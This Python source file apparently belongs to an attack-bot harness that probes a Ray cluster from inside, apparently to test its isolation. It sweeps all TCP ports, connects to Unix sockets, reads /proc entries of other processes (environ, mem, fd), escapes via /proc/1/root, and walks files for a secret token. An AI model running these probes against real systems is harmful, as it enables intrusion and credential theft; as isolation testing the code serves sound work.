"""Looks for the Ray cluster that it is played on: its ports, sockets, files, processes, token."""

from __future__ import annotations

import json
import os
import socket
from collections import Counter
from collections.abc import Iterable
from functools import partial
from pathlib import Path

from attacks.bots.attempt import PLAN, attempt, is_planned, outcome_of, play, say
from attacks.bots.files import holds_secret, read, search_processes, walk

EVERY_PORT = range(1, 65_536)
WAYS = ("", "/proc/self/root", "/proc/1/root")


def knock(address: str, port: int) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as way:
        way.settimeout(1.0)
        way.connect((address, port))


def knock_at(address: str, ports: Iterable[int]) -> None:
    """Say how often there was which answer, and where somebody opened."""
    answers, opened = Counter[str](), []
    for port in ports:
        outcome = outcome_of(partial(knock, address, port))
        answers[outcome] += 1
        if outcome.startswith("done"):
            opened.append(port)
    say(f"ports of {address}", json.dumps({"answers": answers, "opened": opened}))


def enter(address: str) -> str:
    """Connect to a Unix socket; one without a path is written with an @, as the kernel does."""
    with socket.socket(socket.AF_UNIX) as way:
        way.settimeout(1.0)
        way.connect("\0" + address[1:] if address[0] == "@" else address)
    return "entered"


def list_addresses() -> list[str]:
    """Those that it was told of, and those that it can find out itself."""
    found = set(PLAN["addresses"])
    for name in ("localhost", socket.gethostname()):
        try:
            found |= {str(info[4][0]) for info in socket.getaddrinfo(name, 80)}
        except OSError:
            continue
    return sorted(found)


def list_ray_processes() -> list[str]:
    """The commands of the cluster's processes, among those that it can see."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        if b"ray" in command and int(pid) != os.getpid():
            found.append(command.decode(errors="replace"))
    return found


def main() -> None:
    ports = json.loads(Path("ports.json").read_text())
    say("ports", json.dumps(ports))
    for address in list_addresses():
        if is_planned(f"ports of {address}"):
            knock_at(address, EVERY_PORT if PLAN["sweeps"] else ports)
    for path in PLAN["sockets"]:
        attempt(f"enter {path}", partial(enter, path))
    for path in PLAN["paths"]:
        for way in WAYS:
            attempt(f"read {way}{path}", partial(read, way + path))
    for pid in PLAN["pids"]:
        attempt(f"signal {pid}", partial(os.kill, pid, 0))
        for what in ("environ", "cmdline", "maps", "mem", "fd", "cwd", "root/etc"):
            attempt(f"read /proc/{pid}/{what}", partial(read, f"/proc/{pid}/{what}"))
    attempt("search for the token", lambda: [str(path) for path in walk() if holds_secret(path)])
    attempt("search processes", search_processes)
    attempt("see processes", list_ray_processes)
    say("variables", str(sorted(name for name in os.environ if "RAY" in name)))
    play()


if __name__ == "__main__":
    main()
